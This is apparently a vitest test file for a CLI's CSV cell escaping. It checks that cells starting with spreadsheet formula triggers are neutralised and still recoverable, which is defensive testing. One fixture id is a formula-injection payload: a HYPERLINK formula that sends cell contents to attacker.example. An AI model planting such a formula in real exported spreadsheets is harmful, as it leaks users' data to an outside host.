import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import fc from 'fast-check';
import { afterAll, describe, expect, it } from 'vitest';
import { ESCAPED_CELL_QUOTING, escapeCsvCell, FORMULA_TRIGGERS, restoreCsvCell } from '#cli/csv-cell';
import { dedupeExport, parseDedupeArgs } from '#cli/dedupe';

const dir = mkdtempSync(join(tmpdir(), 'syncline-csv-cell-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));

/** Strings weighted towards the dangerous first characters, quotes, commas and line breaks. */
const cellText = fc.oneof(
  fc.string({ unit: 'grapheme' }),
  fc.tuple(fc.constantFrom(...FORMULA_TRIGGERS, "'", '"', ',', '\n', ' '), fc.string()).map(([first, rest]) => `${first}${rest}`),
);

const beginsWithTrigger = (cell: string) => FORMULA_TRIGGERS.some((t) => cell.startsWith(t));

describe('spreadsheet-safe CSV cells', () => {
  it('never writes a cell that begins with a formula trigger, and the value is recoverable (property)', () => {
    fc.assert(
      fc.property(fc.array(fc.array(cellText, { minLength: 1, maxLength: 5 }), { minLength: 1, maxLength: 5 }), (rows) => {
        // Act: through the same stringify options the dedupe files use, then read back as a spreadsheet's CSV reader would.
        const text = stringify(rows.map((row) => row.map(escapeCsvCell)), ESCAPED_CELL_QUOTING);
        const cells = (parse(text, { relax_column_count: true }) as string[][]).flat();

        // Assess
        expect(cells.filter(beginsWithTrigger)).toEqual([]);
        expect(cells.map(restoreCsvCell)).toEqual(rows.flat());
      }),
      { numRuns: 300 },
    );
  });

  it('quotes an escaped cell and leaves an ordinary one as it is', () => {
    expect(stringify([[escapeCsvCell('=1+1'), escapeCsvCell('plain')]], ESCAPED_CELL_QUOTING)).toBe(`"'=1+1",plain\n`);
    expect(escapeCsvCell("'already")).toBe("''already");
  });

  it('writes the ids of an export whose ids look like formulas as text, in both dedupe files', async () => {
    // Prepare
    const out = join(dir, 'formula.clusters.csv');

    // Act
    const summary = await dedupeExport(parseDedupeArgs(['test/fixtures/dedupe/formula-ids.csv', '--out', out]));

    // Assess: no cell of either file begins with a trigger, and every id comes back as it was in the export.
    const clusters = parse(readFileSync(out, 'utf8')) as string[][];
    const review = parse(readFileSync(summary.reviewOut, 'utf8')) as string[][];
    expect([...clusters, ...review].flat().filter(beginsWithTrigger)).toEqual([]);
    const ids = clusters.slice(1).map((row) => restoreCsvCell(row[0] ?? ''));
    expect(ids).toEqual(['=HYPERLINK("http://attacker.example/?x="&A1,"open")', '+1-555-0100', '-2', '@SUM(A1:A9)', '=1+1', "'quoted", 'plain-id']);
    expect(readFileSync(out, 'utf8')).toContain(`"'=HYPERLINK(""http://attacker.example/?x=""&A1,""open"")"`);
  });
});
